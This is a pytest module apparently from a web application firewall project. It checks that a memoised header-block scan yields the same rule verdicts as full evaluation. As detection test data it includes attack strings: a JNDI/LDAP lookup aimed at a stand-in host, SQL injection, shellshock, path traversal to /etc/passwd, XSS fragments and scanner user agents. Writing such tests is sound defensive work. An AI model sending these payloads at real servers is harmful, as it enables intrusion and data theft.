"""The head scan split at the request line (``WafEngine.head_mask``, ``prefilter``).

The candidates named by the field lines are kept on the request's ``HeaderBlock``, so the
next request of a connection that repeats its field lines scans only its request line. These
tests hold that to the promise of the prefilter: a verdict is the one evaluating every rule
gives, whichever request of a block computed the field-line part, for heads parsed by the
real parser, for the corpora and for generated heads, and through a real edge.
"""

from __future__ import annotations

import asyncio
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.support.edge import edge_config, read_response, running_edge
from tests.support.origin import Origin
from tests.waf.quality import _RUNTIME, load, make_ctx

from shieldwall.config.firewall import WafConfig
from shieldwall.config.model import Config
from shieldwall.edge.context import ConnectionInfo, RequestContext
from shieldwall.edge.filters.chain import chain_builder
from shieldwall.edge.runtime import build_runtime
from shieldwall.edge.services import WorkerServices
from shieldwall.protocol.h1_head import HeaderBlock, RequestHead
from shieldwall.protocol.h1_request import RequestParser
from shieldwall.rules import MAX_MATCH_SUBJECT_BYTES, compile_rule
from shieldwall.waf.conditions import field_line_condition
from shieldwall.waf.engine import (
    MAX_METHODS,
    MAX_TARGETS,
    WafEngine,
    WafSettings,
    compile_engine,
)
from shieldwall.waf.inputs import WafState, header_dict
from shieldwall.waf.ruleset import load_ruleset

ROWS = load("benign.jsonl") + load("attack.jsonl")
ENGINES = {pl: compile_engine(load_ruleset(), WafSettings(paranoia=pl)) for pl in (1, 2, 4)}
BROWSER = (
    b"Host: example.com\r\n"
    b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0\r\n"
    b"Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n"
    b"Accept-Language: en-US,en;q=0.5\r\n"
    b"Cookie: sid=8f14e45f; theme=dark\r\n"
    b"Referer: https://example.com/\r\n\r\n"
)
SQLI_LINE = b"GET /item?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\n"


def parser() -> RequestParser:
    return RequestParser(max_header_bytes=64 * 1024, max_header_count=100, max_uri_bytes=8192)


def parse(p: RequestParser, line: bytes, fields: bytes) -> RequestHead:
    head = p.parse_fast(line + fields)
    assert head is not None, line + fields
    return head


def edge_ctx(head: RequestHead) -> RequestContext:
    """A context as ``Exchange.start_request`` builds it for a zone with filters."""
    conn = ConnectionInfo("198.51.100.20", 40000, "198.51.100.20", 40000, 443)
    target = head.target
    path, _, query = target.partition(b"?")
    ctx = RequestContext(
        conn,
        _RUNTIME,
        "r",
        0.0,
        head.method,
        target,
        path,
        query,
        head.version,
        head.block.headers,
        "example.com",
        conn.client_ip,
    )
    ctx.block = head.block
    return ctx


def full(engine: WafEngine, ctx: RequestContext) -> tuple[tuple[str, ...], int]:
    """Every rule evaluated, no prefilter, no block: the verdict the split must give."""
    ctx = replace(ctx, block=None, waf=None)
    st = engine.evaluate(ctx, prefilter=False)
    return st.rule_ids, st.score


def split(engine: WafEngine, ctx: RequestContext) -> tuple[tuple[str, ...], int]:
    st = engine.evaluate_head(ctx)
    return ((), 0) if st is None else (st.rule_ids, st.score)


def test_a_header_borne_attack_is_found_on_every_request_of_its_block() -> None:
    engine = ENGINES[1]
    p = parser()
    fields = BROWSER.replace(b"Accept-Language", b"X-Api-Version: ${jndi:ldap://x.test/a}\r\nA")
    heads = [parse(p, b"GET /a?n=%d HTTP/1.1\r\n" % n, fields) for n in range(5)]
    assert all(h.block is heads[0].block for h in heads)  # one block: the memo is used
    for head in heads:
        ctx = edge_ctx(head)
        rule_ids, score = split(engine, ctx)
        assert "1403" in rule_ids and score >= engine.threshold
        assert (rule_ids, score) == full(engine, ctx)
    assert heads[0].block.derived(engine)  # the field lines named candidates


def test_a_request_line_attack_is_found_with_the_field_line_part_remembered() -> None:
    engine = ENGINES[1]
    p = parser()
    first = edge_ctx(parse(p, b"GET /a?x=1 HTTP/1.1\r\n", BROWSER))
    assert split(engine, first) == ((), 0)
    assert first.block is not None and first.block.derived(engine) == 0
    attack = edge_ctx(parse(p, SQLI_LINE, BROWSER))
    assert attack.block is first.block
    rule_ids, score = split(engine, attack)
    assert score >= engine.threshold and "1602" in rule_ids
    assert (rule_ids, score) == full(engine, attack)
    st = attack.waf
    assert isinstance(st, WafState)
    # the field-line part came from the block: nothing of the headers was read this time
    assert st.known_header_dict() is None and st._cookies is None and st._headers is None
    again = edge_ctx(parse(p, b"GET /a?x=3 HTTP/1.1\r\n", BROWSER))
    assert split(engine, again) == ((), 0)


def test_the_block_memo_belongs_to_one_engine() -> None:
    """A zone's engine, another zone's or a reload's: each computes its own field-line part
    (here one engine has the scanner rule disabled, the other has not)."""
    lenient = compile_engine(load_ruleset(), WafSettings(disabled_rules=frozenset({"1104"})))
    strict = compile_engine(load_ruleset(), WafSettings())
    p = parser()
    fields = BROWSER.replace(b"Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", b"sqlmap/1.7")
    a = edge_ctx(parse(p, b"GET /a?x=1 HTTP/1.1\r\n", fields))
    assert split(lenient, a) == ((), 0)
    assert a.block is not None and a.block.derived(strict) is None
    b = edge_ctx(parse(p, b"GET /a?x=2 HTTP/1.1\r\n", fields))
    assert b.block is a.block
    assert split(strict, b) == (("1104",), 5)
    assert split(lenient, edge_ctx(parse(p, b"GET /a?x=3 HTTP/1.1\r\n", fields))) == ((), 0)


def test_a_field_line_condition_is_a_fact_of_the_block_the_rule_is_still_judged() -> None:
    """Rule 1001 (an HTTP/1.1 request without Host): its "no Host" conjunct is kept on the
    block, its version conjunct is read from each request line."""
    engine = ENGINES[1]
    block = HeaderBlock(b"", [(b"user-agent", b"t/1"), (b"accept", b"*/*")])
    for version, expected in ((b"1.1", ("1001",)), (b"1.0", ()), (b"1.1", ("1001",))):
        ctx = make_ctx({"method": "GET", "target": "/x?a=1", "headers": []})
        ctx.headers, ctx.block, ctx.version = block.headers, block, version
        assert split(engine, ctx)[0] == expected
        assert split(engine, replace(ctx, waf=None)) == full(engine, ctx)
    with_host = HeaderBlock(b"", [(b"host", b"example.com")])
    ctx = make_ctx({"method": "GET", "target": "/", "headers": []})
    ctx.headers, ctx.block = with_host.headers, with_host
    assert split(engine, ctx) == ((), 0) and with_host.derived(engine) == 0


@pytest.mark.parametrize(
    ("value", "found"),
    [
        (b"sqlmap/1.7 " + b"a" * MAX_MATCH_SUBJECT_BYTES, True),  # within the rule's cut
        (b"a" * MAX_MATCH_SUBJECT_BYTES + b" sqlmap/1.7", False),  # past it: as the rule
    ],
)
def test_oversized_field_lines_fall_back_to_the_per_field_scans(value: bytes, found: bool) -> None:
    engine = ENGINES[1]
    block = HeaderBlock(b"", [(b"host", b"example.com"), (b"user-agent", value)])
    for n in range(3):
        ctx = make_ctx({"method": "GET", "target": f"/a?n={n}", "headers": []})
        ctx.headers, ctx.block = block.headers, block
        got = split(engine, ctx)
        assert ("1104" in got[0]) is found
        assert got == full(engine, ctx)


def _row_ctx(row: dict[str, Any], block: HeaderBlock, line: dict[str, Any]) -> RequestContext:
    """``line``'s request line over ``block``'s field lines (taken from ``row``)."""
    ctx = make_ctx({"method": line["method"], "target": line["target"], "headers": []})
    ctx.headers, ctx.block = block.headers, block
    host = next((v for k, v in block.headers if k == b"host"), b"")
    ctx.host = host.decode("latin-1")
    return ctx


@pytest.mark.parametrize("paranoia", [1, 2, 4])
def test_corpus_field_lines_under_other_request_lines_agree_with_full_evaluation(
    paranoia: int,
) -> None:
    """Each corpus row's field lines as one block, judged first with its own request line
    (which computes the block's part) and then with the request lines of other rows, benign
    and attack alike (which reuse it)."""
    engine = ENGINES[paranoia]
    n = len(ROWS)
    for i, row in enumerate(ROWS):
        block = HeaderBlock(b"", make_ctx(row).headers)
        for j in (i, (i + 1) % n, (i * 7 + 3) % n, (n - 1 - i)):
            ctx = _row_ctx(row, block, ROWS[j])
            assert split(engine, ctx) == full(engine, ctx), (row["note"], ROWS[j]["note"])
        assert block.derived(engine) is not None


def _raw_fields(row: dict[str, Any]) -> bytes | None:
    try:
        lines = [f"{k}: {v}".encode("latin-1") for k, v in row["headers"]]
    except UnicodeEncodeError:
        return None
    return b"".join(line + b"\r\n" for line in lines) + b"\r\n"


def test_parsed_corpus_heads_agree_with_full_evaluation() -> None:
    """The corpus as real heads on one connection per row: the row's field lines with its own
    request line, then with an attack and a benign one (one block for the three)."""
    engine = ENGINES[1]
    checked = 0
    for row in ROWS:
        fields = _raw_fields(row)
        target = row["target"].encode("latin-1", "replace")
        if fields is None or b"host:" not in fields.lower():
            continue
        p = parser()
        lines = [b"%s %s HTTP/1.1\r\n" % (row["method"].encode(), target), SQLI_LINE]
        lines.append(b"GET /plain?page=2 HTTP/1.1\r\n")
        heads = [p.parse_fast(line + fields) for line in lines]
        if any(h is None for h in heads):
            continue  # the general path's business (a body, a refused byte): not here
        assert all(h is not None and h.block is heads[0].block for h in heads)
        for h in heads:
            assert h is not None
            ctx = edge_ctx(h)
            assert split(engine, ctx) == full(engine, ctx), row["note"]
            checked += 1
    assert checked > 300


_FRAGMENTS = [
    "a",
    "=",
    "&",
    ";",
    " ",
    "%",
    "%27",
    "%2e%2e/",
    "'",
    "<script>",
    "${jndi:ldap://x/}",
    "() { :; }",
    "union select",
    "sqlmap",
    "../",
    "/etc/passwd",
    "&#x3c;",
    "javascript:alert(1)",
    "{",
    "$",
    "u",
    "\x00",
]
_text = st.lists(st.sampled_from(_FRAGMENTS), max_size=6).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    headers=st.lists(
        st.tuples(st.sampled_from(["user-agent", "cookie", "referer", "x-a", "host"]), _text),
        max_size=5,
    ),
    queries=st.lists(_text, min_size=1, max_size=3),
    path=_text,
    method=st.sampled_from(["GET", "POST", "TRACE"]),
    paranoia=st.sampled_from([1, 2, 4]),
)
def test_generated_heads_agree_with_full_evaluation(
    headers: list[tuple[str, str]], queries: list[str], path: str, method: str, paranoia: int
) -> None:
    engine = ENGINES[paranoia]
    block = HeaderBlock(b"", [(k.encode(), v.encode()) for k, v in headers])
    for q in queries:
        row = {"method": method, "target": f"/{path}?{q}", "headers": []}
        ctx = _row_ctx(row, block, row)
        assert split(engine, ctx) == full(engine, ctx)
        assert set(engine.ordered_candidates(ctx)) <= set(engine.head_candidates(ctx))


async def _get(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, line: bytes, fields: bytes
) -> int:
    writer.write(line + fields)
    async with asyncio.timeout(10):
        return (await read_response(reader))[0]


async def test_through_an_edge_every_request_of_a_block_is_judged() -> None:
    jndi = BROWSER.replace(b"Accept-Language", b"X-Api-Version: ${jndi:ldap://x.test/a}\r\nA")
    scanner = BROWSER.replace(b"Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", b"sqlmap/1.7")
    async with Origin() as origin:
        lenient = WafConfig(enabled=True, disabled_rules=("1104",))
        config = edge_config(origin.port, waf=lenient)
        services = WorkerServices()
        async with running_edge(config, chain_builder=chain_builder(services)) as edge:
            r, w = await edge.connect()
            lines = [b"GET /a?n=%d HTTP/1.1\r\n" % n for n in range(3)]
            assert [await _get(r, w, line, jndi) for line in lines] == [403] * 3
            got = [await _get(r, w, line, BROWSER) for line in (lines[0], SQLI_LINE, lines[1])]
            assert got == [200, 403, 200]
            assert [await _get(r, w, line, scanner) for line in lines] == [200] * 3
            # a reload mid-block: the new engine judges the same field lines afresh
            zone = replace(config.zones[0], waf=WafConfig(enabled=True))
            strict: Config = replace(config, zones=(zone,))
            edge.server.holder.swap(build_runtime(strict, 2, chain_builder(services)))
            assert [await _get(r, w, line, scanner) for line in lines] == [403] * 3
            rules = [e.security_rule for e in edge.access_log.entries]
            assert rules[:3] == ["waf:1403"] * 3 and rules[-3:] == ["waf:1104"] * 3
        assert len(origin.requests) == 2 + 3


def test_a_benign_request_of_a_known_block_needs_no_waf_state() -> None:
    """The request-line part reads the context alone: with the field-line part remembered and
    no rule matching, nothing creates ``ctx.waf``."""
    engine = ENGINES[1]
    p = parser()
    first = edge_ctx(parse(p, b"GET /a?x=1 HTTP/1.1\r\n", BROWSER))
    engine.evaluate_head(first)
    assert first.waf is not None  # the field-line part read the header views
    for n in range(3):
        ctx = edge_ctx(parse(p, b"GET /b/%d?y=%d&z=w HTTP/1.1\r\n" % (n, n), BROWSER))
        assert engine.evaluate_head(ctx) is None and ctx.waf is None


def test_method_only_rules_are_judged_per_method_within_a_bound() -> None:
    """Rule 1002 (TRACE, TRACK, DEBUG, CONNECT) reads the method alone: its verdict is kept
    per method, in a bounded memo that a stream of made-up methods cannot grow."""
    engine = ENGINES[1]
    block = HeaderBlock(b"", [(b"host", b"example.com"), (b"user-agent", b"t/1")])
    methods = ["GET", "TRACE", "track", "POST", "DEBUG"] + [f"M{i}" for i in range(200)]
    for method in [*methods, "TRACE", "GET"]:
        ctx = make_ctx({"method": method, "target": "/a?b=c", "headers": []})
        ctx.headers, ctx.block = block.headers, block
        got = split(engine, ctx)
        assert got == full(engine, ctx)
        assert ("1002" in got[0]) is (method.upper() in {"TRACE", "TRACK", "DEBUG"})
    assert 0 < len(engine._by_method) <= MAX_METHODS


def test_header_dict_of_a_block_needs_no_state() -> None:
    p = parser()
    fields = b"Host: example.com\r\nAccept: */*\r\nAccept: text/html\r\n\r\n"
    for line, body in ((b"GET /a HTTP/1.1\r\n", BROWSER), (b"GET /b HTTP/1.1\r\n", fields)):
        ctx = edge_ctx(parse(p, line, body))
        got = header_dict(ctx)
        assert ctx.waf is None  # the block's dict, no state made for it
        assert got == WafState(replace(ctx, block=None)).header_dict()
        assert (got is None) is (body is fields)  # a repeated name: the list is the truth
    ctx = make_ctx({"method": "GET", "target": "/", "headers": [["Host", "a"], ["X", "1"]]})
    assert header_dict(ctx) == {b"host": b"a", b"x": b"1"}  # no block: the state's


def test_field_line_conditions_of_the_shipped_rules() -> None:
    """The conjuncts that read the field lines alone, printed and compiled again: every one
    of the shipped rule set's compiles (none falls back to being always evaluated)."""
    by_id = {r.id: r for r in load_ruleset().rules}
    got = {
        rid: field_line_condition(compile_rule(by_id[rid].expression).expr)
        for rid in ("1001", "1002", "1004", "1006", "1007")
    }
    assert got == {
        "1001": '(not any(http.request.headers.names[*] eq "host"))',
        "1002": None,  # the method alone: kept per method instead
        "1004": '(http.user_agent eq "")',
        "1006": '(not any(http.request.headers.names[*] eq "accept"))',
        "1007": None,  # the version: judged every request
    }
    assert len(ENGINES[4]._conds) == 3 and len(ENGINES[1]._conds) == 1


def test_a_target_without_query_is_scanned_once_and_still_judged_every_time() -> None:
    """The request-line part of a query-less target is kept per target (PL1: it reads the
    target alone): an attack in such a path is found on every request, under any field
    lines, and a stream of distinct paths keeps the memo bounded."""
    engine = ENGINES[1]
    p = parser()
    for fields in (BROWSER, BROWSER.replace(b"theme=dark", b"theme=light")):
        for _ in range(3):
            ctx = edge_ctx(parse(p, b"GET /.env HTTP/1.1\r\n", fields))
            assert ctx.path is ctx.target  # the edge's context: the memo applies
            got = split(engine, ctx)
            assert got == full(engine, ctx) and "1101" in got[0]
            benign = edge_ctx(parse(p, b"GET /static/app.js HTTP/1.1\r\n", fields))
            assert split(engine, benign) == ((), 0) and benign.waf is None
    assert engine._by_target is not None and b"/.env" in engine._by_target
    block = HeaderBlock(b"", [(b"host", b"example.com")])
    for n in range(MAX_TARGETS + 10):
        ctx = make_ctx({"method": "GET", "target": f"/p/{n}/..%2f..%2fetc/passwd", "headers": []})
        ctx.headers, ctx.block = block.headers, block
        assert split(engine, ctx) == full(engine, ctx)
    assert 0 < len(engine._by_target) <= MAX_TARGETS
    # a context whose path is not the target's object (built by hand) is scanned in full
    ctx = make_ctx({"method": "GET", "target": "/.env", "headers": []})
    ctx.path = bytes(bytearray(ctx.target))
    assert ctx.path is not ctx.target and split(engine, ctx) == full(engine, ctx)
    assert ENGINES[2]._by_target is None  # http.host joins the request-line part at PL2
